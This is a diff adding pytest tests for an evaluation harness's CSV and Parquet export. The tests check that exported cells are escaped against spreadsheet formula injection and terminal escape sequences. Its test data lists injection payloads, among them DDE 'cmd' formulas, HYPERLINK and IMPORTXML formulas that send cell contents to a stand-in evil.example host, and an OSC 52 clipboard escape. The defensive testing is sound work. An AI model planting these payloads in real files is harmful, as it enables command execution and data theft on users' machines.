@@ -1,0 +1,268 @@
+"""`evalharness export`: a record as CSV or Parquet, to the letter, and nothing of it runs in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import pty
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pandas
+import pytest
+from click.testing import CliRunner, Result
+from store.stored_records import HOSTILE, a_run, a_sample, accepted, broken, write
+
+from evalharness.cli import main
+from evalharness.records import Run
+from evalharness.records.table import Row, metrics_of_run, run_rows
+from evalharness.store import read_run
+
+COMMANDS = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("https://evil.example/?q="&A1,"click")',
+    '=IMPORTXML("https://evil.example","//a")',
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "@A1",
+)
+LEADS = ("", "\t", "\r", "\n", "\t\t", "\r\n")
+FORMULAS = tuple(f"{lead}{command}" for command in COMMANDS for lead in LEADS)
+"""Sixty texts that a spreadsheet may take for a formula."""
+LEADERS = set("=+-@\t\r\n")
+
+
+def run_cli(*arguments: str | Path) -> Result:
+    """`evalharness ...` in this process."""
+    result = CliRunner().invoke(main, [str(argument) for argument in arguments])
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result
+
+
+def stored(folder: Path, *texts: str) -> Path:
+    """The folder of a run with one sample for each text, which stands in every text of it."""
+    write(folder / "run.jsonl", a_run([a_sample(f"{text} {n}", text=text) for n, text in enumerate(texts)]))
+    return folder
+
+
+def cells(text: str) -> list[dict[str, str]]:
+    """The rows of a CSV text, as any reader of RFC 4180 sees them."""
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def plain(row: Row) -> Row:
+    """A row without what is missing."""
+    return {name: value for name, value in row.items() if value is not None}
+
+
+def read_back(row: dict[str, str], like: Row) -> Row:
+    """The cells of a CSV row as what they were, by the types of another row."""
+
+    def value(cell: str, kind: type) -> Any:
+        return json.loads(cell) if kind is list else cell == "True" if kind is bool else kind(cell)
+
+    return {name: value(row[name], type(given)) for name, given in plain(like).items()}
+
+
+def test_to_the_letter(tmp_path: Path) -> None:
+    """With --raw every cell is what the record says, whatever stands in it."""
+    folder = stored(tmp_path / "run", *HOSTILE, *FORMULAS)
+    result = run_cli("export", folder, "--csv", "--raw", "-o", tmp_path / "x.csv")
+    assert (result.exit_code, result.stdout) == (0, f"{tmp_path / 'x.csv'}: {len(HOSTILE + FORMULAS)} rows\n")
+    found = cells((tmp_path / "x.csv").read_bytes().decode())
+    wanted = list(run_rows(read_run(folder / "run.jsonl")))
+    assert len(found) == len(wanted)
+    for row, like in zip(found, wanted, strict=True):
+        for name, value in read_back(row, like).items():
+            given = like[name]
+            assert value in (given, str(given).encode("utf-8", "backslashreplace").decode()) or name in LISTS, name
+
+
+LISTS = ("tags", "failed_checks")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_formula(tmp_path: Path, formula: str) -> None:
+    """No cell of text begins as a formula does; behind the apostrophe stands the text itself."""
+    assert len(set(FORMULAS)) == 60
+    (row,) = cells(run_cli("export", stored(tmp_path, formula)).stdout_bytes.decode())
+    assert row["answer"] == f"'{formula}"
+    assert row["case"] == f"'{formula} 0"
+    assert [name for name, cell in row.items() if cell and cell[0] in LEADERS] == []
+    (raw,) = cells(run_cli("export", "--raw", tmp_path).stdout_bytes.decode())
+    assert raw["answer"] == formula
+
+
+def test_errors_cannot_be_formulas_either(tmp_path: Path) -> None:
+    """What a provider says when it fails is a text like any other."""
+    write(tmp_path / "run.jsonl", a_run([broken(message="=1+1")]))
+    (row,) = cells(run_cli("export", tmp_path).stdout)
+    assert (row["error_message"], row["answer"], row["latency_s"]) == ("'=1+1", "", "")
+
+
+def test_parquet(tmp_path: Path) -> None:
+    """What a program reads from the file is what `to_pandas` gives, types included."""
+    folder = stored(tmp_path / "run", *(text for text in HOSTILE if "\ud83d" not in text), *FORMULAS)
+    result = run_cli("export", folder, "-o", tmp_path / "x.parquet")
+    assert (result.exit_code, result.stdout) == (0, f"{tmp_path / 'x.parquet'}: {len(HOSTILE) - 1 + 60} rows\n")
+    table = read_run(folder / "run.jsonl").to_pandas()
+    found = pandas.read_parquet(tmp_path / "x.parquet")
+    for column in table:
+        kind = str(table[column].dtype)
+        assert str(found[column].dtype) in (kind, "str", "object") if kind in ("string", "object") else kind
+        assert [_plain(cell) for cell in found[column]] == [_plain(cell) for cell in table[column]]
+    assert found.attrs == table.attrs
+
+
+def _plain(cell: Any) -> Any:
+    if hasattr(cell, "tolist"):
+        cell = cell.tolist()
+    return cell if isinstance(cell, list) else None if pandas.isna(cell) else cell
+
+
+def test_half_a_character_in_parquet(tmp_path: Path) -> None:
+    """Half a surrogate pair, which UTF-8 cannot hold, is written as JSON escapes it."""
+    run_cli("export", stored(tmp_path, "lone \ud83d half"), "-o", tmp_path / "x.parquet")
+    assert pandas.read_parquet(tmp_path / "x.parquet")["answer"].tolist() == ["lone \\ud83d half"]
+
+
+@pytest.mark.parametrize("name", ["x.csv", "x.parquet"])
+def test_no_samples(tmp_path: Path, name: str) -> None:
+    """A run without a sample is a table with its columns and no row; types are kept."""
+    write(tmp_path / "run.jsonl", Run(a_run().header, (), ()))
+    assert run_cli("export", tmp_path, "-o", tmp_path / name).stdout.endswith(": 0 rows\n")
+    path = tmp_path / name
+    table = pandas.read_csv(path) if name.endswith("csv") else pandas.read_parquet(path)
+    assert (len(table), "score_exact" in table) == (0, True)
+    if name == "x.parquet":
+        assert str(table["attempts"].dtype) == "Int64"
+
+
+def test_a_baseline(tmp_path: Path) -> None:
+    """A baseline file is exported as well, a row for each draw of an accepted run."""
+    path = accepted(tmp_path, a_run(), a_run(name="run-2"))
+    rows = cells(run_cli("--root", tmp_path, "export", path).stdout)
+    assert [(row["case"], row["run_id"], row["score_exact"]) for row in rows] == [
+        *(("a", "run-1", "0.123457"), ("a", "run-2", "0.123457")),
+        *(("b", "run-1", "0.123457"), ("b", "run-2", "0.123457")),
+    ]
+
+
+def test_the_record_itself_may_be_named(tmp_path: Path) -> None:
+    """A run's folder and its record are the same export; so are two exports of one record, byte for byte."""
+    folder = stored(tmp_path / "run", "x")
+    first = run_cli("export", folder).stdout_bytes
+    assert run_cli("export", folder / "run.jsonl").stdout_bytes == first
+    assert run_cli("export", "--csv", folder).stdout_bytes == first
+    assert metrics_of_run(read_run(folder / "run.jsonl")) == ["exact"]
+
+
+@pytest.mark.parametrize("name", ["x.csv", "x.parquet"])
+def test_again(tmp_path: Path, name: str) -> None:
+    """An earlier export is replaced, whatever its rows were; so is an empty file."""
+    target = tmp_path / "new" / name
+    for texts in (["one"], ["one", "two"]):
+        assert run_cli("export", stored(tmp_path / "run", *texts), "-o", target).exit_code == 0
+    assert len(pandas.read_csv(target) if name.endswith("csv") else pandas.read_parquet(target)) == 2
+    target.write_bytes(b"")
+    assert run_cli("export", tmp_path / "run", "-o", target).exit_code == 0
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("cases.csv", b"id,question\na,b\n"),
+        ("x.csv", b"suite,run_id\n"),
+        ("x.parquet", b"PAR1 but no more"),
+        ("notes.csv", "größe\n".encode("latin-1")),
+    ],
+)
+def test_what_people_wrote_is_kept(tmp_path: Path, name: str, content: bytes) -> None:
+    """A file that is no export is left as it is; --force replaces it."""
+    folder, target = stored(tmp_path / "run", "x"), tmp_path / name
+    target.write_bytes(content)
+    refused = run_cli("export", folder, "-o", target)
+    assert (refused.exit_code, target.read_bytes()) == (1, content)
+    assert "no export: name another one, or replace it with --force" in refused.stderr
+    assert run_cli("export", folder, "--force", "-o", target).exit_code == 0
+    assert target.read_bytes() != content
+
+
+def test_never_over_the_record(tmp_path: Path) -> None:
+    """Not even --force writes over what is being exported."""
+    folder = stored(tmp_path, "x")
+    before = (folder / "run.jsonl").read_bytes()
+    result = run_cli("export", folder, "--csv", "--force", "-o", folder / "run.jsonl")
+    assert (result.exit_code, (folder / "run.jsonl").read_bytes()) == (1, before)
+    assert "this is the file that is exported" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("arguments", "status", "said"),
+    [
+        (["--help"], 0, "Example: evalharness export reports/support -o support.parquet"),
+        ([], 2, "Missing argument"),
+        (["no/such/run"], 2, "does not exist"),
+        (["run", "--parquet"], 2, "name a file with -o FILE"),
+        (["run", "-o", "x.xlsx"], 2, "x.xlsx: say --csv or --parquet"),
+        (["run", "-o", "x.parquet", "--raw"], 2, "--raw is for CSV"),
+        (["run", "-o", "run"], 2, "is a directory"),
+        (["empty"], 1, "run.jsonl: cannot be read"),
+        (["other.jsonl"], 1, "other.jsonl:1: neither a run nor a baseline"),
+        (["blank.jsonl"], 1, "blank.jsonl:1:1: not JSON"),
+        (["cut.jsonl"], 1, "the last line is cut off"),
+    ],
+)
+def test_usage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], status: int, said: str) -> None:
+    """Help shows an example; what cannot be done is one sentence with a place."""
+    monkeypatch.chdir(tmp_path)
+    stored(Path("run"), "x")
+    Path("empty").mkdir()
+    Path("other.jsonl").write_text('{"schema": 1, "kind": "recording"}\n')
+    Path("blank.jsonl").write_text("")
+    Path("cut.jsonl").write_bytes(Path("run/run.jsonl").read_bytes()[:-3])
+    result = run_cli("export", *arguments)
+    assert (result.exit_code, said in " ".join(result.output.split())) == (status, True), result.output
+
+
+@pytest.mark.parametrize("on_a_terminal", [True, False])
+def test_terminal(tmp_path: Path, on_a_terminal: bool) -> None:
+    """On a terminal no answer moves the cursor; a program behind a pipe gets the bytes themselves."""
+    folder = stored(tmp_path, "\x1b[31mred\x1b]52;c;aGk=\x07")
+    command = [sys.executable, "-c", "from evalharness.cli import main; main()", "export", str(folder)]
+    said = (_on_a_terminal if on_a_terminal else _piped)(command)
+    assert (b"\x1b" in said, "⟨U+001B⟩[31mred".encode() in said) == (not on_a_terminal, on_a_terminal)
+
+
+def _piped(command: list[str]) -> bytes:
+    return subprocess.run(command, capture_output=True, check=True).stdout
+
+
+def _on_a_terminal(command: list[str]) -> bytes:
+    reader, writer = pty.openpty()
+    with subprocess.Popen(
+        command, stdout=writer, stderr=writer, env={**os.environ, "PYTHONIOENCODING": "utf-8"}
+    ) as done:
+        os.close(writer)
+        said = b"".join(iter(_reading(reader), b""))
+    assert done.returncode == 0, said
+    return said
+
+
+def _reading(reader: int) -> Callable[[], bytes]:
+    def read() -> bytes:
+        try:
+            return os.read(reader, 65536)
+        except OSError:  # Linux says so where the other end is closed
+            return b""
+
+    return read
